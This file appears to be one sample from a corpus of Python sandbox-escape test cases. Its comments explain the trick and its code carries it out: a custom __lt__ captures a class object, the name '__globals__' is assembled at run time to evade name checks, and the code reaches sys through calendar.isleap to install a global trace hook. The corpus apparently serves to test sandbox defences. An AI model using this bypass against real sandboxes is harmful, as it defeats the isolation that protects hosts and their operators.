# family: process
# Escape: `s < probe.__class__` is a comparison operand, so __class__ is allowed; Python calls the tool's
# __lt__ with the attrgetter class. calendar.isleap.__globals__ (run-time name) holds sys, whose settrace
# installs an interpreter-wide trace hook.
import calendar
import operator


class Sorter:
    def __lt__(self, other):
        self.seen = other
        return True


def tool(trace_hook) -> bool:
    s = Sorter()
    probe = operator.attrgetter("real")
    s < probe.__class__
    edge = "_" * 2
    s.seen(edge + "globals" + edge)(calendar.isleap)["sys"].settrace(trace_hook)
    return True
